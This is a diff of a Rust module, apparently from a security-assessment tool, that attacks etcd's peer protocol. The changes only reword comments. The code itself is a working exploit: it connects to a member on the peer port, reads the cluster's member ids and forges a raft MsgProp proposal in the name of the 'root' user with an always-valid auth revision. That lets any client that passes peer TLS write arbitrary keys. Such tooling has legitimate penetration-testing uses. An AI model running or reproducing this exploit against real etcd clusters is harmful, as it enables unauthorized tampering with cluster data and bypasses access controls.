@@ -1,8 +1,8 @@
-//! etcd's peer protocol: what one who passes its TLS as a member can do.
+//! Attack on etcd's peer protocol.
 //!
-//! Members send each other raft messages as protobuf over HTTP. A proposal (`MsgProp`) is what a follower forwards to
-//! the leader; its entry is a request as etcd itself would have made it, the user's name included. So whoever is let
-//! in as a peer writes any key, whatever etcd's users may do.
+//! Members send each other raft messages as protobuf over HTTP. A follower forwards a proposal (`MsgProp`) to the
+//! leader, and its entry is a complete request with the user's name. So a client that passes the peers' TLS
+//! verification can write any key, whatever permissions etcd's users have.
 
 use firstboot::https::{self, Connection, request};
 use serde_json::Value;
@@ -14,14 +14,14 @@ use super::{Arena, Finding};
 const PEER_PORT: u16 = 2380;
 const CLUSTER: &str = "x-etcd-cluster-id";
 
-/// The cluster, as a peer learns it.
+/// Ids of the cluster and its members, as a peer reads them.
 struct Members {
-    /// Hexadecimal.
+    /// Cluster id, hexadecimal.
     cluster: String,
     ids: Vec<(String, u64)>,
 }
 
-/// Whether a member lets the attacker in as a peer.
+/// Tries to connect to a member as a peer.
 pub fn peer(arena: &Arena, from: &Foothold) -> Finding {
     let let_in = from.run(|| async {
         let (door, shown, members) = members(arena, from).await?;
@@ -31,12 +31,12 @@ pub fn peer(arena: &Arena, from: &Foothold) -> Finding {
     let_in.map_or_else(Finding::no, Finding::yes)
 }
 
-/// Proposes a put to the cluster as one of its members does. Returns how; whether it took effect is to be looked at.
+/// Proposes a put to the cluster in a member's name. Returns how a member accepted it. The caller verifies the effect.
 pub fn propose(arena: &Arena, from: &Foothold, key: &str, value: &str) -> Result<String, String> {
     from.run(|| async {
         let (_, shown, members) = members(arena, from).await?;
         let mut last = String::new();
-        // The leader takes it, a follower forwards it.
+        // The leader appends the entry, a follower forwards it.
         for door in from.reachable(voter_doors(arena, from, PEER_PORT)).await {
             let Some((_, to)) = members.ids.iter().find(|(name, _)| *name == door.name) else { continue };
             let Some((_, as_member)) = members.ids.iter().find(|(name, _)| *name != door.name) else { continue };
@@ -57,7 +57,7 @@ pub fn propose(arena: &Arena, from: &Foothold, key: &str, value: &str) -> Result
     })
 }
 
-/// The first member that lets the attacker in, with what, and what it says of the cluster.
+/// Returns the first member that accepts the attacker as a peer, the credential, and the cluster's ids.
 async fn members<'a>(arena: &Arena, from: &'a Foothold) -> Result<(Door, Option<&'a Credential>, Members), String> {
     let mut last = format!("port {PEER_PORT} is filtered or closed");
     for door in from.reachable(voter_doors(arena, from, PEER_PORT)).await {
@@ -79,22 +79,22 @@ async fn list(from: &Foothold, door: &Door, shown: Option<&Credential>) -> Resul
         let answer = connection.send(request("GET", &door.host, "/members", &[], bytes::Bytes::new())?).await?;
         let status = answer.status();
         let cluster = answer.headers().get(CLUSTER).and_then(|v| v.to_str().ok()).map(str::to_owned);
-        // The body comes with a request of its own: this one's headers are what was asked for.
+        // `send` returns the headers and `ask` the body, so this takes two requests.
         let mut connection = Connection::open(&door.host, door.port, &door.name, &tls).await?;
         let body = connection.ask(request("GET", &door.host, "/members", &[], bytes::Bytes::new())?, 1 << 20).await?;
         Ok::<_, firstboot::error::Error>((status, cluster, body))
     };
     let (status, cluster, body) = asked.await.map_err(|e| e.to_string())?;
-    let cluster = cluster.ok_or_else(|| format!("{status} without a cluster's id"))?;
+    let cluster = cluster.ok_or_else(|| format!("{status} without a cluster id"))?;
     let listed: Vec<Value> = serde_json::from_slice(&body).map_err(|e| e.to_string())?;
     let id = |member: &Value| Some((member["name"].as_str()?.to_owned(), member["id"].as_u64()?));
     Ok(Members { cluster, ids: listed.iter().filter_map(id).collect() })
 }
 
-/// A `raftpb.Message` of type `MsgProp` with one entry: a put.
+/// Encodes a `raftpb.Message` of type `MsgProp` with one entry, a put.
 fn proposal(from: u64, to: u64, key: &str, value: &str) -> Vec<u8> {
     const MSG_PROP: u64 = 2;
-    // In the name of etcd's administrator, at any revision of its users.
+    // The user root, with an auth revision that is never too old.
     let header = [number(1, 0x6261_6b65), text(2, "root"), number(3, u64::from(u32::MAX))].concat();
     let put = [text(1, key), text(2, value)].concat();
     // etcdserverpb.InternalRaftRequest: put is field 4, header 100.
@@ -104,12 +104,12 @@ fn proposal(from: u64, to: u64, key: &str, value: &str) -> Vec<u8> {
     [number(1, MSG_PROP), number(2, to), number(3, from), bytes(7, &entry)].concat()
 }
 
-/// A protobuf field with a varint.
+/// Encodes a protobuf field of type varint.
 fn number(field: u64, value: u64) -> Vec<u8> {
     [varint(field << 3), varint(value)].concat()
 }
 
-/// A protobuf field with a length.
+/// Encodes a length-delimited protobuf field.
 fn bytes(field: u64, value: &[u8]) -> Vec<u8> {
     [varint(field << 3 | 2), varint(value.len() as u64), value.to_vec()].concat()
 }
@@ -133,8 +133,8 @@ mod tests {
     use super::*;
 
     #[test]
-    fn protobuf_fields_are_encoded_as_the_format_says() {
-        // Both are examples of protobuf's own documentation.
+    fn encodes_protobuf_fields() {
+        // Examples from https://protobuf.dev/programming-guides/encoding/.
         assert_eq!(number(1, 150), [0x08, 0x96, 0x01]);
         assert_eq!(text(2, "testing"), *b"\x12\x07testing");
     }
